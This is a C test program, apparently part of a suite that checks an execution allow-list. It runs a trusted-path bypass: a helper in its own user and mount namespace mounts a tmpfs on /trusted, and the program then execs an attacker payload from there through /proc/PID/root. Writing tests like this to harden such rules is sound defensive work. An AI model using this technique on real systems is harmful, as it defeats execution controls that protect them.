// SPDX-License-Identifier: GPL-2.0
/*
 * userns_proc_root: a helper in its own user and mount namespace mounts a
 * tmpfs on its /trusted and puts the attacker's program there; we stay in
 * the initial namespaces, with the initial root, and exec the file through
 * /proc/HELPER/root/trusted/x.  A rule that only compares our root with
 * init's and the file's path inside *its* namespace with "/trusted/"
 * says yes.
 */
#include "attack.h"
#include <sched.h>
#include <sys/mount.h>

int main(void)
{
	char out[512], path[96], c = 0;
	char *argv[] = { path, NULL };
	int p[2], st;
	pid_t helper;

	attack_name = "userns_proc_root";
	if (pipe(p))
		broken("pipe");
	helper = fork();
	if (helper == 0) {
		c = 'x';
		if (enter_userns(CLONE_NEWNS))
			c = 'u';
		else if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) ||
			 mount("none", "/trusted", "tmpfs", 0, NULL))
			c = 'm';
		else if (copy_file(PAYLOAD, "/trusted/x", 0755))
			c = 'c';
		if (write(p[1], &c, 1) != 1)
			_exit(1);
		pause();
		_exit(0);
	}
	close(p[1]);
	if (read(p[0], &c, 1) != 1)
		broken("the helper died");
	if (c == 'u' || c == 'm') {
		kill(helper, SIGKILL);
		blocked("the helper could not %s", c == 'u' ? "create a user namespace" : "mount on /trusted");
	}
	if (c != 'x')
		broken("the helper could not copy the payload");
	snprintf(path, sizeof(path), "/proc/%d/root/trusted/x", helper);
	st = run_capture(path, argv, NULL, out, sizeof(out));
	kill(helper, SIGKILL);
	waitpid(helper, NULL, 0);
	judge_exec("the attacker's program exec'd through /proc/PID/root of a user namespace", st, out);
}
